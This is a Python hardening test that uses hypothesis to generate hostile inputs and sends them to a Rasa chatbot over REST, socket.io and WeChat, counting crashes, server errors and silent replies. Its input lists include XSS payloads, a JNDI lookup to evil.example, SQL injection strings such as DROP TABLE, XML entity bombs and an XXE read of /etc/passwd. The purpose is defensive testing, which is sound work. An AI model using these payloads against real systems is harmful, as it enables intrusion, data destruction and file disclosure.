"""A hostile-input corpus, generated with hypothesis and played through the real channels.

Run it against a stack it starts itself (needs a trained model) and print the figures::

    .venv/bin/python -m tests.hardening.corpus --cases 1000

Every case is a fresh conversation sent through REST, socket.io (Engine.IO polling, also with
malformed frames) or WeChat (signed, badly signed, hostile XML). Counted: cases tried, crashes
(a server died or the client could not get any HTTP answer), 5xx answers and silent replies (an
accepted message that got no text back). Every figure but "tried" must be 0.
"""

from __future__ import annotations

import argparse
import json
import random
import secrets
import sys
import time
from collections import Counter
from collections.abc import Callable
from dataclasses import dataclass, field
from pathlib import Path

import httpx
from hypothesis import HealthCheck, Phase, given, settings
from hypothesis import strategies as st

from tooling.wechat_sim import SimConfig, build_message_xml, read_reply, sign_message

WECHAT_TOKEN = "hardening2026"
ACCOUNT = "gh_hardening"

# --- what hostile users send ------------------------------------------------------------

INVISIBLE = "\u200b\u200c\u200d\u2060\ufeff\u202a\u202b\u202c\u202d\u202e\u2066\u2067\u2068\u2069"
CONTROLS = "".join(chr(c) for c in range(32)) + "\x7f"
INJECTIONS = [
    "/start_over", "/restart", "/ /start_over", " / / /restart", '/inform{"money_sent": "no"}',
    '/ /inform{"money_sent": "yes", "amount_sent": "999999"}', "/greet@1.0", "/forget_me",
    "/affirm", "/action_forget_me", '/describe_offer{"platform": "police"}', "//" * 50,
    "\u200b/start_over", "\u202e/restart", "\u3000/start_over", "／start_over",
]
MARKUP = [
    "<script>alert(1)</script>", '<img src=x onerror="alert(1)">', "javascript:alert(1)",
    "<iframe src=//evil.example>", "{{7*7}}", "${jndi:ldap://evil.example/a}", "%s%s%s%n",
    "<b>bold</b> loan", "<!--", "]]>", "<![CDATA[x]]>", "&lt;&amp;&#0;",
]
SQL = [
    "'; DROP TABLE events; --", "1 OR 1=1", "\" OR \"\"=\"", "admin'--",
    "1; SELECT * FROM events WHERE sender_id LIKE '%'", "UNION SELECT data FROM events",
]
XML_BOMBS = [
    '<?xml version="1.0"?><!DOCTYPE lolz [<!ENTITY lol "lol"><!ENTITY lol2 '
    '"&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">]><xml><Content>&lol2;</Content></xml>',
    '<?xml version="1.0"?><!DOCTYPE x [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>'
    "<xml><Content>&xxe;</Content></xml>",
    "<!-- <!DOCTYPE x> --><xml></xml>", "<xml>" * 10_000, "<xml><a>" + "<b>" * 5000 + "</xml>",
    "", "not xml at all", "\xff\xfe", "<xml><MsgType>text</MsgType></xml>",
]
WORDS = [
    "hi", "help", "someone called about a loan", "有人让我交解冻费", "我已经转了3000",
    "they want a deposit", "JD金融客服说我的loan被冻结了", "is this a scam", "谢谢", "no",
]


def hostile_texts(max_size: int = 3000) -> st.SearchStrategy[str]:
    """Text a hostile or unlucky user might type into any channel."""
    words = st.sampled_from(WORDS)
    return st.one_of(
        st.just(""),
        st.text(alphabet=" \t\n\u3000", max_size=20),
        st.sampled_from(INJECTIONS),
        st.builds(lambda a, b: a + b, st.sampled_from(INJECTIONS), words),
        st.sampled_from(MARKUP),
        st.sampled_from(SQL),
        st.text(alphabet=INVISIBLE + CONTROLS, min_size=1, max_size=50),
        st.builds(lambda w, junk: "".join(c + junk for c in w), words,
                  st.sampled_from(list(INVISIBLE))),
        st.builds(lambda n, e: e * n, st.integers(1, 3000), st.sampled_from(["😀", "💸", "🇨🇳", "👨‍👩‍👧"])),
        st.binary(min_size=1, max_size=200).map(lambda b: b.decode("latin-1")),
        st.text(max_size=200),
        st.text(alphabet=st.characters(min_codepoint=0x4E00, max_codepoint=0x9FFF), max_size=200),
        st.builds(lambda n: "a" * n, st.sampled_from([1999, 2000, 2001, 5000, 100_000, 1_000_000])),
        st.builds(lambda w, n: w * n, words, st.integers(1, max_size // 4)),
    )


# --- figures ------------------------------------------------------------------------------


@dataclass
class Figures:
    """What happened to the cases played so far."""

    tried: int = 0
    crashes: int = 0
    server_errors: int = 0
    silent: int = 0
    by_channel: Counter = field(default_factory=Counter)
    statuses: Counter = field(default_factory=Counter)
    failures: list[str] = field(default_factory=list)
    slowest: float = 0.0

    def record(self, channel: str, status: int | None, answered: bool, detail: str,
               elapsed: float) -> None:
        """Count one case (status None: no HTTP answer at all)."""
        self.tried += 1
        self.by_channel[channel] += 1
        self.statuses[f"{channel} {status}"] += 1
        self.slowest = max(self.slowest, elapsed)
        problem = None
        if status is None:
            self.crashes += 1
            problem = "no answer"
        elif status >= 500:
            self.server_errors += 1
            problem = f"HTTP {status}"
        elif not answered:
            self.silent += 1
            problem = "silent"
        if problem and len(self.failures) < 20:
            self.failures.append(f"{channel}: {problem}: {detail[:120]!r}")

    @property
    def clean(self) -> bool:
        """Whether every figure that must be zero is zero."""
        return not (self.crashes or self.server_errors or self.silent)

    def report(self) -> str:
        """The figures as printed lines."""
        lines = [
            f"cases tried:    {self.tried} ({', '.join(f'{k} {v}' for k, v in self.by_channel.items())})",
            f"crashes:        {self.crashes}",
            f"5xx responses:  {self.server_errors}",
            f"silent replies: {self.silent}",
            f"slowest case:   {self.slowest:.2f} s",
            "statuses:       " + ", ".join(f"{k}: {v}" for k, v in sorted(self.statuses.items())),
        ]
        return "\n".join(lines + [f"  {f}" for f in self.failures])


# --- players: one case each ------------------------------------------------------------------


class Players:
    """Sends one hostile case through one channel of a running Rasa and records the outcome."""

    def __init__(self, rasa_url: str, figures: Figures, timeout: float = 60.0) -> None:
        self.rasa_url = rasa_url.rstrip("/")
        self.figures = figures
        self.http = httpx.Client(timeout=timeout)

    def close(self) -> None:
        """Close the HTTP client."""
        self.http.close()

    def _timed(self, channel: str, detail: str, call: Callable[[], tuple[int, bool]]) -> None:
        started = time.monotonic()
        try:
            status, answered = call()
        except (httpx.HTTPError, OSError) as error:
            status, answered = None, False
            detail = f"{detail} ({type(error).__name__})"
        self.figures.record(channel, status, answered, detail, time.monotonic() - started)

    # REST
    def rest_text(self, text: str) -> None:
        """A JSON message with hostile text: 200 and at least one text reply."""
        def call() -> tuple[int, bool]:
            reply = self.http.post(f"{self.rasa_url}/webhooks/rest/webhook",
                                   json={"sender": f"corpus-{secrets.token_hex(8)}",
                                         "message": text})
            answered = reply.status_code < 500 and any(
                m.get("text") for m in reply.json() if isinstance(m, dict))
            return reply.status_code, answered
        self._timed("rest", text, call)

    def rest_body(self, body: bytes) -> None:
        """A raw, malformed body: any 4xx with a JSON reason counts as an answer."""
        def call() -> tuple[int, bool]:
            reply = self.http.post(f"{self.rasa_url}/webhooks/rest/webhook", content=body,
                                   headers={"Content-Type": "application/json"})
            return reply.status_code, bool(reply.content)
        self._timed("rest", repr(body[:60]), call)

    # socket.io (Engine.IO v4 long-polling, spoken by hand so frames can be malformed)
    def _eio(self) -> tuple[str, str]:
        url = f"{self.rasa_url}/socket.io/?EIO=4&transport=polling"
        opened = self.http.get(url)
        sid = json.loads(opened.text[1:])["sid"]
        url = f"{url}&sid={sid}"
        self.http.post(url, content=b"40")
        self.http.get(url)  # "40{...}": namespace connected
        return url, sid

    def _emit(self, url: str, event: str, data: object) -> int:
        return self.http.post(url, content=("42" + json.dumps([event, data])).encode()).status_code

    def _poll_bot_text(self, url: str, deadline: float) -> bool:
        while time.monotonic() < deadline:
            packets = self.http.get(url).text.split("\x1e")
            for packet in packets:
                if packet == "2":  # ping: answer pong and keep polling
                    self.http.post(url, content=b"3")
                if packet.startswith("42"):
                    event, *args = json.loads(packet[2:])
                    if event == "bot_uttered" and args and isinstance(args[0], dict) and (
                        args[0].get("text") or args[0].get("custom")
                    ):
                        return True
        return False

    def socketio_text(self, text: str) -> None:
        """A widget-like conversation: session_request, then the hostile message."""
        def call() -> tuple[int, bool]:
            url, _ = self._eio()
            session = secrets.token_hex(16)
            self._emit(url, "session_request", {"session_id": session})
            status = self._emit(url, "user_uttered", {"message": text, "session_id": session})
            return status, self._poll_bot_text(url, time.monotonic() + 40)
        self._timed("socketio", text, call)

    def socketio_frame(self, frame: bytes) -> None:
        """A malformed frame; the server must not fail, and a normal message still works."""
        def call() -> tuple[int, bool]:
            url, _ = self._eio()
            status = self.http.post(url, content=frame).status_code
            if status >= 500:
                return status, False
            url, _ = self._eio()  # a fresh connection still gets answers
            session = secrets.token_hex(16)
            self._emit(url, "session_request", {"session_id": session})
            self._emit(url, "user_uttered", {"message": "hi", "session_id": session})
            return status, self._poll_bot_text(url, time.monotonic() + 40)
        self._timed("socketio", repr(frame[:60]), call)

    # WeChat
    def wechat_text(self, text: str, valid_signature: bool) -> None:
        """A text message, signed or not. Signed: a passive text reply (or a 400 for text XML
        cannot carry); unsigned: 403."""
        config = SimConfig(url=f"{self.rasa_url}/webhooks/wechat/webhook", token=WECHAT_TOKEN,
                           openid=f"o_corpus_{secrets.token_hex(6)}", account=ACCOUNT)
        xml = build_message_xml("text", text, config.openid, config.account)

        def call() -> tuple[int, bool]:
            signed = sign_message(xml, config)
            params = dict(signed.params)
            if not valid_signature:
                params["signature"] = secrets.token_hex(20)
            reply = self.http.post(config.url, params=params, content=signed.body.encode("utf-8"))
            if not valid_signature:
                return reply.status_code, reply.status_code == 403
            if reply.status_code != 200:
                return reply.status_code, 400 <= reply.status_code < 500 and bool(reply.text)
            return 200, bool(read_reply(reply.text, config, encrypted=False).text)
        self._timed("wechat", text, call)

    def wechat_body(self, body: str) -> None:
        """Hostile XML with a valid signature: refused with a 4xx and a reason."""
        config = SimConfig(url=f"{self.rasa_url}/webhooks/wechat/webhook", token=WECHAT_TOKEN,
                           openid="o_corpus_xml", account=ACCOUNT)

        def call() -> tuple[int, bool]:
            signed = sign_message(body, config)
            reply = self.http.post(config.url, params=signed.params,
                                   content=body.encode("utf-8", "surrogatepass"))
            return reply.status_code, reply.status_code < 500 and bool(reply.text)
        self._timed("wechat", body, call)


MALFORMED_FRAMES = [
    b"42[", b'42["user_uttered"]', b'42["user_uttered", "text"]', b'42["user_uttered", 5]',
    b'42["user_uttered", {"message": 5, "session_id": 7}]', b'42["user_uttered", null]',
    b'42["session_request", "x"]', b'42["start_conversation", {"language": "<b>"}]',
    b'42["set_language", {"language": "/restart"}]', b"4x", b"9", b"", b"\xff\xfe\x00",
    b'42["user_uttered", {"message": "' + b"a" * 300_000 + b'"}]', b"42" + b"[" * 5000,
    b'42["no_such_event", {}]', b'42/other,["user_uttered",{"message":"hi"}]',
]


def play(players: Players, cases: int, seed: int) -> Figures:
    """Play ``cases`` generated cases, spread over every channel and kind of attack."""
    rng = random.Random(seed)

    @settings(max_examples=cases, database=None, deadline=None, derandomize=True,
              phases=[Phase.generate], suppress_health_check=list(HealthCheck))
    @given(text=hostile_texts(), raw=st.binary(max_size=300))
    def one_case(text: str, raw: bytes) -> None:
        kind = rng.random()
        if kind < 0.40:
            players.rest_text(text)
        elif kind < 0.45:
            players.rest_body(raw if rng.random() < 0.7 else text.encode("utf-8", "surrogatepass"))
        elif kind < 0.60:
            players.socketio_text(text)
        elif kind < 0.65:
            players.socketio_frame(rng.choice(MALFORMED_FRAMES + [raw]))
        elif kind < 0.85:
            players.wechat_text(text, valid_signature=True)
        elif kind < 0.92:
            players.wechat_text(text, valid_signature=False)
        else:
            players.wechat_body(rng.choice(XML_BOMBS + [raw.decode("latin-1")]))

    one_case()
    return players.figures


def main(argv: list[str] | None = None) -> int:
    """Start a stack (or use ``--rasa-url``), play the corpus, print the figures."""
    parser = argparse.ArgumentParser(description=__doc__.splitlines()[0])
    parser.add_argument("--cases", type=int, default=1000)
    parser.add_argument("--seed", type=int, default=13)
    parser.add_argument("--rasa-url", help="a running Rasa with WECHAT_TOKEN=" + WECHAT_TOKEN)
    parser.add_argument("--model", type=Path, help="model archive (default: the current one)")
    args = parser.parse_args(argv)
    started = time.monotonic()
    if args.rasa_url:
        figures = play(Players(args.rasa_url, Figures()), args.cases, args.seed)
    else:
        from tests.hardening.servers import hardened_stack

        with hardened_stack(args.model, "corpus") as stack:
            figures = play(Players(stack.urls.rasa, Figures()), args.cases, args.seed)
    print(figures.report())
    print(f"took:           {time.monotonic() - started:.0f} s")
    return 0 if figures.clean and figures.tried >= args.cases else 1


if __name__ == "__main__":
    sys.exit(main())
